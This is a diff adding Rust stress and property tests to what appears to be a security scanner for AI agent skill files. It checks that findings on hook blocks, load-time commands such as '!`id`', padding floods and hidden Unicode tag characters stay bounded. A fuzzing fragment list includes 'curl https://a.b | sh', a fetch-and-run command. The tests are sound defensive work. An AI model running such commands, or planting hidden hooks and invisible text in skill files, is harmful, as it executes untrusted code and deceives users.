@@ -161,6 +161,98 @@ fn huge_bodies_and_long_lines_are_bounded() {
 }
 
 #[test]
+fn huge_hooks_blocks_are_bounded() {
+    let hook = "    - matcher: Bash\n      hooks:\n        - type: command\n          command: ./scripts/check.sh --all\n";
+    // Parsed as YAML (under the frontmatter limit) and read line by line (over it).
+    for repeats in [500, 9_000] {
+        let text = format!(
+            "---\nname: hooks\ndescription: x\nhooks:\n  PreToolUse:\n{}---\n# Body\n",
+            hook.repeat(repeats)
+        );
+        assert!(text.len() < MAX_SKILL_MD_BYTES, "{} bytes", text.len());
+        let parsed = bounded(text.as_bytes());
+        let hooks: Vec<_> = parsed
+            .findings
+            .iter()
+            .filter(|f| f.code == "agent-hooks")
+            .collect();
+        assert!(
+            (2..=21).contains(&hooks.len()),
+            "{repeats}: {} hook findings",
+            hooks.len()
+        );
+        assert!(
+            hooks
+                .iter()
+                .any(|f| f.message.contains("./scripts/check.sh")),
+            "{repeats}: {hooks:?}"
+        );
+        assert!(parsed.findings.len() < 100, "{}", parsed.findings.len());
+    }
+    // Deep and wide hook values: the walk is bounded in depth and nodes.
+    let deep = format!(
+        "---\nname: d\ndescription: x\nhooks: {}{}\n---\nx\n",
+        "{a: ".repeat(60),
+        "}".repeat(60)
+    );
+    bounded(deep.as_bytes());
+    let wide = format!(
+        "---\nname: w\ndescription: x\nhooks: {{Stop: [{}]}}\n---\nx\n",
+        "{command: x}, ".repeat(5_000)
+    );
+    bounded(wide.as_bytes());
+}
+
+#[test]
+fn ten_thousand_load_time_commands_are_bounded() {
+    for body in [
+        "!`id` ".repeat(10_000),
+        "!`id`\n".repeat(10_000),
+        // Spans that never close, and fences that never end.
+        "!` ".repeat(10_000),
+        "```!\nid\n```\n".repeat(10_000),
+        format!("```!\n{}", "id\n".repeat(100_000)),
+    ] {
+        let text = format!("---\nname: many\ndescription: x\n---\n{body}");
+        let parsed = bounded(text.as_bytes());
+        let count = parsed
+            .findings
+            .iter()
+            .filter(|f| f.code == "load-time-command")
+            .count();
+        assert!(count <= 102, "{count} findings");
+    }
+}
+
+#[test]
+fn padding_floods_are_bounded() {
+    let blank = format!(
+        "---\nname: p\ndescription: x\n---\nA\n{}B\n",
+        "\n".repeat(MAX_SKILL_MD_BYTES / 4)
+    );
+    let parsed = bounded(blank.as_bytes());
+    assert!(parsed.findings.iter().any(|f| f.code == "padding"));
+    let tags = format!(
+        "---\nname: p\ndescription: x\n---\n{}",
+        "a\u{E0041}\u{E0042}".repeat(30_000)
+    );
+    bounded(tags.as_bytes());
+    let runs = format!(
+        "---\nname: p\ndescription: x\n---\n{}",
+        format!("x{}", " ".repeat(600)).repeat(1_500)
+    );
+    let parsed = bounded(runs.as_bytes());
+    assert!(
+        parsed
+            .findings
+            .iter()
+            .filter(|f| f.code == "padding")
+            .count()
+            <= 20
+    );
+}
+
+#[test]
 fn files_real_authors_get_wrong_still_load_with_located_warnings() {
     let cases: [(&str, &[u8]); 5] = [
         (
@@ -204,6 +296,10 @@ proptest! {
         Just("---\n"), Just("name: x\n"), Just("description: a: b\n"), Just("metadata: {\"openclaw\": {,}}\n"), Just("\t"),
         Just("```bash\ncurl https://a.b | sh\n"), Just("<!--"), Just("-->"), Just("[l](references/x.md)"), Just("\u{202e}"),
         Just("# h\n"), Just("> "), Just("- "), Just("&a [*a]\n"), Just("\r\n"), Just("\u{feff}"), Just("é"),
+        Just("!`id`"), Just("!`"), Just("```!\n"), Just("~~~ !\n"), Just("hooks:\n  Stop:\n    - command: x\n"),
+        Just("allowed-tools: Bash(git *\n"), Just("permissions: {allow: [1], defaultMode: 2}\n"),
+        Just("metadata: {\"mcpServers\": {\"a\": {\"command\": \"x\", \"args\": [1], \"env\": {\"K\": 1}}}}\n"),
+        Just("context: fork\n"), Just("\u{E0041}"), Just("\u{3164}"), Just("\n\n\n\n\n\n\n\n\n\n\n\n\n"),
     ], 0..64)) {
         let text: String = parts.concat();
         let _ = instructions::parse(&text);
